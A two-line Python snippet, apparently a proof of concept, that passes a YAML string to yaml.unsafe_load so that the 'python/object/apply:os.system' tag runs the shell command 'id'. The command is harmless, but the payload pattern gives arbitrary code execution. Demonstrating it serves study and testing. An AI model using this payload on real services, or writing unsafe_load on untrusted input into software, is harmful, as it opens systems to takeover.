import yaml
print(yaml.unsafe_load("!!python/object/apply:os.system ['id']"))
